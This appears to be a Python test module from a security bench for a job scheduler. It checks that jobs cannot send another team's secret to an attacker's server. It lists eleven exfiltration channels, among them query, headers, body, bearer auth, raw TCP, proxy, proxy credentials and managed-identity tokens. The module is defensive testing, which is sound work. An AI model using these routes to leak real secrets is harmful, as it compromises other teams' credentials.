"""Jobs that send another team's secret to their own server, in every part of a request."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator, Mapping
from contextlib import AbstractContextManager
from typing import Any
from urllib.parse import urlsplit

from bench._attacks.harness import Attack, Scene, serving
from bench._parts import get_json

REFERENCE = {"secret": "other-team"}
SPELT_OTHERWISE = {"secret": "OTHER_TEAM"}


class StealSecret(Attack):
    """Jobs send another team's secret to their own server: query, headers, body, auth, steps, TCP, proxy."""

    name = "steal-secret"
    environ = {
        "SCHEDULER_SECRET_OTHER_TEAM": "the-value-of-another-team-0123456789",
        "SCHEDULER_SECRETS__ALLOW": '{{"other-team": ["other-team.internal"]}}',
    }

    def server(self) -> AbstractContextManager[str]:
        """The attacker's server answers 200 to whatever comes."""
        return serving(_answer)

    def jobs(self, url: str) -> Mapping[str, Any]:
        """One job each second for each place."""
        return {
            f"steal-{name}": {"schedule": {"every": "1s"}, "check": check, "retry": {"attempts": 1}}
            for name, check in _checks(url).items()
        }

    def problems(self, scene: Scene) -> Iterator[str]:
        """Yield the places by which the secret was sent."""
        for name in _checks(scene.target):
            runs = f"{scene.scheduler.url}/api/runs?job=steal-{name}&limit=50"
            if get_json(f"{runs}&outcome=succeeded")["runs"]:
                yield f"the secret was sent by {name}"
            errors = {run["error"] for run in get_json(f"{runs}&outcome=failed")["runs"]}
            if errors != {"target_denied"}:
                yield f"runs of {name} ended with {errors or 'nothing'}"


def _checks(url: str) -> Mapping[str, Any]:
    parts = urlsplit(url)
    allowed = "http://other-team.internal/"
    return {
        "query": {"url": url, "query": {"q": REFERENCE}},
        "spelling": {"url": url, "query": {"q": SPELT_OTHERWISE}},
        "header": {"url": url, "headers": {"X-Stolen": REFERENCE}},
        "body": {"url": url, "method": "POST", "body": {"text": REFERENCE}},
        "form": {"url": url, "method": "POST", "body": {"form": {"q": REFERENCE}}},
        "bearer": {"url": url, "auth": {"kind": "bearer", "token": REFERENCE}},
        "tcp": {"kind": "tcp", "host": parts.hostname, "port": parts.port, "dialogue": [{"send": REFERENCE}]},
        "step": {"kind": "steps", "steps": [{"name": "one", "url": url, "query": {"q": REFERENCE}}]},
        "proxy": {"url": allowed, "proxy": url, "allow_plain_http": True, "query": {"q": REFERENCE}},
        "proxy-auth": {"url": url, "proxy": url, "proxy_auth": {"username": "a", "password": REFERENCE}},
        "token": {"url": url, "auth": {"kind": "managed_identity", "scope": "https://vault.azure.net/.default"}},
    }


async def _answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read(64 * 1024)
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
    await writer.drain()


ATTACKS = (StealSecret(),)
